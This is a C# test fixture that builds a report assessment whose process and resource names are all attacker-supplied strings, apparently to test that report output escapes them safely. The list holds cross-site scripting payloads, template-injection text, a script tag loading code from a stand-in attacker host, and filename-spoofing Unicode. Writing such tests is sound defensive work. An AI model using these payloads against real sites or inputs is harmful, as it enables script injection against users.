using Polp.Graph;

namespace Polp.Reports.Tests;

/// <summary>A system whose names come from an attacker.</summary>
internal static class Hostile
{
    public static IReadOnlyList<string> Names { get; } =
    [
        "</script><img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(2)>",
        "' autofocus onfocus='alert(3)",
        "javascript:alert(4)",
        "{{ it.policy }}{{ for x in 1..9 }}",
        "</style><script src=https://attacker.example/x.js></script>",
        "<!--<script>",
        "admin\u202Etxt.exe\u2066",
        "nul\0bell\a\u001B[31mred",
        "p-okld",
        new string('A', 10_240),
        "שלום עולם",
        "lone \uD800 half",
        "&lt;already&amp;encoded&gt;",
    ];

    public static Assessment Assessment { get; } = new(
        Names[0], Names[5], [.. Names.Select(Process)],
        [.. Names.Select(n => new ResourceAssessment("file:" + n, n, 7, [new(n, Right.Read)]))], Names, 2140);

    private static ProcessAssessment Process(string name, int index) => new(
        name,
        new(name, index, index, [1], [name], name, name, false, true, true, [name], 1, new(name, 1)),
        new(index * 7, [new(name, 0.5, new(name, 2))]),
        new(index * 7, [new(name, 100, null)]),
        [new(name, name, new(name, 3))],
        [new(Right.Read, "file:" + name, 7, [new(name, name, new(name, 4))])],
        [new(name, FindingLevel.Error, name, new(name, 5), true, [new(name, new(name, 6))])],
        new(true, [new(name, GrantStatus.Missing, [name, name]) { OtherPaths = [[name, name]] }, new(name, GrantStatus.Counted, [name])], [name], [name], [name], 1, 1, 0.1)
        {
            Grants = [new(name, true, false, GrantUse.Unclear, [name], [name]), new(name, false, true, GrantUse.TooWide, [name], [])],
            Broad = [new(name, name, name, name)],
        });
}
